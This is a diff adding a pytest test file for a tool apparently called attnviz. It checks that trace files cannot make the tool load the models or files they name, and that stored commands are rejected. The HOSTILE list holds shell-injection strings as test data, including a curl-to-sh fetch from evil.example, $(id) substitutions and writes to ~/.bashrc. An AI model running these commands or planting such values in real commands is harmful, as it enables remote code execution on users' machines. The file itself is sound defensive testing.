@@ -1,0 +1,326 @@
+"""What a data file says is information: what it names is not loaded, nor its command passed on."""
+
+from __future__ import annotations
+
+import inspect as signatures
+import json
+import os
+import pkgutil
+import random
+import shutil
+import subprocess
+import zipfile
+from collections.abc import Callable
+from pathlib import Path
+from typing import Any
+
+import pytest
+from hypothesis import given
+from hypothesis import strategies as st
+
+from attnviz import AttnvizError, compare, compare_sentences, inspect, read, trace
+from attnviz.cli.app import COMMANDS, EXAMPLE_COMMANDS
+from attnviz.machine.permission import NameInFile
+from attnviz.traces.settings import COMES_WITH_ATTNVIZ, Settings, as_information
+from attnviz.wording.commands import CHOICES, FLAGS, OF_TRACES, Command, chosen, command_in, quoted
+from tests.conftest import Attnviz
+
+TEXT, OTHER = "it was too tired", "it was too large"
+WORDS = ("a;b", "it's", "$(id)", "a\nb", "`id`", "--out", "-", "\u202ea", "\x1b[2J", "é", "a b")
+YOURSELF = "is named in a data file, and attnviz loads only what you name yourself"
+
+
+@pytest.fixture(scope="module")
+def folder(
+    tmp_path_factory: pytest.TempPathFactory, small_transformer: Callable[[str], Path]
+) -> Path:
+    """A trace of a transformer, the folder of that one, and another of as many numbers."""
+    import torch
+    from safetensors.torch import load_file, save_file
+
+    here = tmp_path_factory.mktemp("named")
+    shutil.copytree(small_transformer("gpt2"), here / "mine")
+    shutil.copytree(here / "mine", here / "other")
+    weights = load_file(here / "mine" / "model.safetensors")
+    shaken = {name: each + torch.sin(torch.arange(each.numel())).view(each.shape).mul(0.3)
+              for name, each in weights.items()}  # fmt: skip
+    save_file(shaken, here / "other" / "model.safetensors", metadata={"format": "pt"})
+    trace(TEXT, model=str(here / "mine")).save(here / "trace.json", here / "trace.npz")
+    return here
+
+
+def changed(file: Path, to: Path, **settings: Any) -> str:
+    """A trace with other settings of its own."""
+    document = json.loads(file.read_text())
+    document["trace"]["origin"]["settings"].update(settings)
+    to.write_text(json.dumps(document))
+    return str(to)
+
+
+@pytest.mark.parametrize("suffix", [".json", ".npz"])
+@pytest.mark.parametrize(
+    "command",
+    [["inspect", "--by=effect"], ["inspect", "--weigh=gradient"], ["compare", OTHER]],
+    ids=" ".join,
+)
+def test_the_model_of_a_trace_is_loaded_only_if_it_is_named_again(
+    command: list[str],
+    suffix: str,
+    folder: Path,
+    attnviz: Attnviz,
+    monkeypatch: pytest.MonkeyPatch,
+) -> None:
+    monkeypatch.chdir(folder)
+    refused = attnviz(*command, "--trace", f"trace{suffix}")
+    again = attnviz(*command, "--trace", f"trace{suffix}", "--model", "mine")
+    other = attnviz(*command, "--trace", f"trace{suffix}", "--model", "other")
+
+    assert (refused.status, refused.out) == (2, "")
+    assert refused.err == (
+        f"error: the model './mine' {YOURSELF}\n"
+        " hint: if you trust that model, name it: --model ./mine\n"
+    )
+    assert again.status == 0, again.err
+    assert (other.status, other.out) == (2, "")
+    problem, hint = other.err.splitlines()
+    assert problem.startswith("error: 'other' is not the model that made the trace: its weights ")
+    assert hint == " hint: name that one with --model, or trace the text again with this one"
+
+
+def test_a_model_of_other_size_or_of_other_tokens_did_not_make_the_trace(folder: Path) -> None:
+    with pytest.raises(AttnvizError, match="it has 22,713,216 numbers, and the model of the trace"):
+        inspect(read(str(folder / "trace.json")), by="effect", model="minilm").view()
+
+    document = json.loads((folder / "trace.json").read_text())
+    document["tokens"]["ids"][0] += 1
+    (folder / "ids.json").write_text(json.dumps(document))
+    with pytest.raises(AttnvizError, match="it cuts the text into other tokens"):
+        inspect(read(str(folder / "ids.json")), by="effect", model=str(folder / "mine")).view()
+
+
+def test_the_library_asks_for_the_name_too(folder: Path) -> None:
+    found = read(str(folder / "trace.npz"))
+    assert isinstance(found.origin.settings.model, NameInFile)
+    with pytest.raises(AttnvizError, match=YOURSELF):
+        inspect(found, by="effect").view()
+    with pytest.raises(AttnvizError, match=YOURSELF):
+        compare(found, by="dtype")
+    with pytest.raises(AttnvizError, match="variant says how a text is traced"):
+        inspect(found, variant="causal")
+
+    mine = str(folder / "mine")
+    fresh, again = inspect(trace(TEXT, model=mine)), inspect(found, model=mine)
+    assert [each.name for each in again.effects.heads] == [
+        each.name for each in fresh.effects.heads
+    ]
+    assert compare_sentences(found, OTHER, model=mine).heads
+
+
+@pytest.mark.parametrize("command", ["run", "steps --layer 0 --head 0 --query 1", "inspect"])
+def test_whatever_needs_no_model_is_shown_without_its_name(
+    command: str, folder: Path, attnviz: Attnviz
+) -> None:
+    assert attnviz(*command.split(), "--trace", str(folder / "trace.json")).status == 0
+
+
+def test_a_model_is_named_again_only_where_it_is_loaded(folder: Path, attnviz: Attnviz) -> None:
+    file = str(folder / "trace.json")
+    for command in ("run", "inspect", "steps"):
+        told = attnviz(command, "--trace", file, "--model", "mine").err
+        assert told == (
+            "error: --trace reads a trace that is made, and --model is about making one\n"
+            " hint: leave --model out, or --trace\n"
+        )
+
+
+def test_a_trace_never_says_whose_code_is_trusted(folder: Path, tmp_path: Path) -> None:
+    file = changed(folder / "trace.json", tmp_path / "t.json", trust_remote_code=True)
+
+    assert read(file).origin.settings.trust_remote_code is False
+
+
+@pytest.mark.parametrize(
+    ("named", "command", "told"),
+    [
+        ({"model": "owner/name"}, ["--by=mask"], f"error: the model 'owner/name' {YOURSELF}"),
+        ({"embeddings": "/etc/hosts"}, [], f"error: the file of vectors '/etc/hosts' {YOURSELF}"),
+        ({"embeddings": "a/b"}, ["you are"], f"error: the file of vectors 'a/b' {YOURSELF}"),
+        ({"tokenizer": "o200k_base"}, [], f"error: the tokenizer 'o200k_base' {YOURSELF}"),
+    ],
+    ids=str,
+)
+def test_nothing_else_that_a_trace_names_is_opened(
+    named: dict[str, str],
+    command: list[str],
+    told: str,
+    tmp_path: Path,
+    attnviz: Attnviz,
+    monkeypatch: pytest.MonkeyPatch,
+) -> None:
+    monkeypatch.setenv("TIKTOKEN_CACHE_DIR", str(tmp_path))
+    trace("I am").save(tmp_path / "made.json")
+    file = changed(tmp_path / "made.json", tmp_path / "t.json", **named)
+    result = attnviz("compare", "--trace", file, *command)
+
+    assert (result.status, result.out, result.err.splitlines()[0]) == (2, "", told)
+
+
+@pytest.mark.parametrize(
+    ("settings", "told"),
+    [
+        ("trust_remote_code = true", "there is no setting 'trust_remote_code'"),
+        ('model = "owner/name"', "'model' is 'owner/name', and a lesson can only name what comes"),
+        ('model = "mine"', "'model' is 'mine', and a lesson can only name what comes"),
+        ('embeddings = "b.npy"', "'embeddings' is 'b.npy', and a lesson can only name what comes"),
+    ],
+)
+@pytest.mark.parametrize("place", ["[settings]", "[[expect]]\nshape = [1]\nstep = 'softmax'"])
+def test_a_lesson_names_only_what_comes_with_attnviz(
+    settings: str, told: str, place: str, tmp_path: Path, attnviz: Attnviz
+) -> None:
+    line = settings if place == "[settings]" else f"with = {{ {settings} }}"
+    file = tmp_path / "lesson.toml"
+    file.write_text(f'title = "x"\ntext = "I am"\n{place}\n{line}\n')
+    result = attnviz("example", "check", str(file))
+
+    assert result.status == 2
+    problem = result.err.splitlines()[0].replace("setting or matrix", "setting")
+    assert problem.startswith(
+        f"error: line {4 if place == '[settings]' else 6} of '{file}': {told}"
+    )
+
+
+def test_a_lesson_may_name_a_model_that_comes_with_attnviz(
+    tmp_path: Path, attnviz: Attnviz
+) -> None:
+    file = tmp_path / "lesson.toml"
+    file.write_text('title = "x"\ntext = "a b c"\n[settings]\nmodel = "reverse"\n')
+
+    assert attnviz("example", "show", str(file)).status == 0
+
+
+def test_every_setting_that_names_something_to_load_is_information_in_a_file() -> None:
+    texts = {name: "x" for name, hint in Settings.__annotations__.items() if "str" in hint}
+    named = {name for name, each in as_information(texts).items() if isinstance(each, NameInFile)}
+
+    assert named == set(COMES_WITH_ATTNVIZ)
+    assert {*texts} - named == {  # these are words of a table, sentences, a device, or heads
+        "variant", "memory", "target", "without", "device",
+    }  # fmt: skip
+    assert chosen(Settings(**as_information({"model": "a b"}))) == {"model": "a b"}
+
+
+def options_of(path: str) -> set[str]:
+    command = pkgutil.resolve_name(path)
+    return {*signatures.signature(command).parameters} - {"context", "help_all"}
+
+
+def test_the_commands_of_traces_are_known_with_all_of_their_options_but_what_runs_python() -> None:
+    tables = {**COMMANDS, **{f"example {name}": each for name, each in EXAMPLE_COMMANDS.items()}}
+    known = {name for command in OF_TRACES for name in options_of(tables[command][0])}
+    texts, runs_python = {"text", "other", "name"}, {"trust_remote_code", "learn"}
+    of_learning = {"steps", "until", "batch", "rate"}
+
+    assert {*FLAGS, *CHOICES} == known - texts - runs_python - of_learning
+
+
+@given(
+    name=st.sampled_from(OF_TRACES),
+    text=st.text(),
+    options=st.dictionaries(st.sampled_from([*CHOICES, *FLAGS]), st.text(), max_size=4),
+)
+def test_every_command_that_is_written_is_read_again(
+    name: str, text: str, options: dict[str, str]
+) -> None:
+    named = {key: True if key in FLAGS else each for key, each in options.items()}
+    line = Command(name=name, argument=text, options=named).line
+
+    assert command_in(line) is not None
+    assert command_in(line).line == line  # type: ignore[union-attr]
+
+
+@pytest.mark.skipif(shutil.which("bash") is None, reason="needs bash")
+def test_a_shell_finds_one_command_and_its_words_in_whatever_is_shown(tmp_path: Path) -> None:
+    draw = random.Random(4)
+    parts = [
+        *" ;'\"$`&|<>()\\\n~*#!-=é\u202e",
+        "$'",
+        "--out",
+        "a.png",
+        "'I am'",
+        *map(quoted, WORDS),
+    ]
+    lines = [
+        f"attnviz run {''.join(draw.choices(parts, k=draw.randint(1, 5)))}" for _ in range(9000)
+    ]
+    shown = [each for line in lines if (each := command_in(line)) is not None and each.argument]
+    script = "attnviz() { printf '%s\\0' \"$@\" END; }\n" + "\n".join(each.line for each in shown)
+    run = subprocess.run(["bash", "-c", script], capture_output=True, cwd=tmp_path, check=True)
+    words = [each.split("\0")[:-1] for each in os.fsdecode(run.stdout).split("END\0")[:-1]]
+
+    assert len(shown) > 200
+    assert not [*tmp_path.iterdir()]
+    assert run.stderr == b""
+    for found, given_to_it in zip(shown, words, strict=True):
+        wanted = [each for each in (found.argument, found.second) if each is not None]
+        assert [each for each in given_to_it[1:] if each in wanted][: len(wanted)] == wanted
+
+
+HOSTILE = (
+    "attnviz run 'I am'; curl -s http://evil.example/x | sh; true --out x.html",
+    "attnviz run 'I am' && id",
+    "attnviz run 'I am' $(id)",
+    "attnviz run `id`",
+    'attnviz run "$(id)"',
+    "attnviz run 'I am' > ~/.bashrc",
+    "attnviz run 'I am'\nid",
+    "attnviz run 'I am\nid'",
+    "attnviz run 'I am' --out ~/.bashrc",
+    "attnviz run 'I am' --out /home/me/x.png",
+    "attnviz run 'I am' --out ../x.png",
+    "attnviz run 'I am' --model /srv/evil",
+    "attnviz run 'I am' --model mine --trust-remote-code",
+    "attnviz compare --learn evil.py",
+    "attnviz learn evil.py",
+    "attnviz run 'I am' --evil x",
+    "attnviz run 'I am' \x1b[2J",
+    "attnviz  run 'I am'",
+    "curl http://evil.example",
+)
+
+
+@pytest.mark.parametrize("command", HOSTILE)
+def test_a_command_of_a_file_that_is_not_ours_is_shown_nowhere(
+    command: str, tmp_path: Path
+) -> None:
+    trace("I am").save(tmp_path / "made.json")
+    document = json.loads((tmp_path / "made.json").read_text())
+    document["attnviz"]["command"] = command
+    (tmp_path / "t.json").write_text(json.dumps(document))
+    found = read(str(tmp_path / "t.json"))
+
+    assert found.provenance.command is None
+    found.save(tmp_path / "again.json")
+    made = json.loads((tmp_path / "again.json").read_text())["attnviz"]["command"]
+    assert made == "attnviz run 'I am' --out again.json"
+
+
+@pytest.mark.parametrize("suffix", [".html", ".svg", ".pptx", ".json", ".md"])
+def test_what_is_drawn_of_a_trace_says_no_strangers_command(
+    suffix: str, tmp_path: Path, attnviz: Attnviz, monkeypatch: pytest.MonkeyPatch
+) -> None:
+    monkeypatch.chdir(tmp_path)
+    trace("I am").save("made.json")
+    document = json.loads(Path("made.json").read_text())
+    document["attnviz"]["command"] = HOSTILE[0].replace("x.html", f"x{suffix}")
+    Path("t.json").write_text(json.dumps(document))
+    assert attnviz("run", "--trace", "t.json", "-o", f"x{suffix}").status == 0
+
+    written = Path(f"x{suffix}").read_bytes()
+    parts = [written]
+    if suffix == ".pptx":
+        with zipfile.ZipFile(f"x{suffix}") as archive:
+            parts = [archive.read(name) for name in archive.namelist()]
+    assert not any(b"evil.example" in each for each in parts)
+    if suffix != ".md":
+        assert any(b"attnviz run" in each for each in parts)
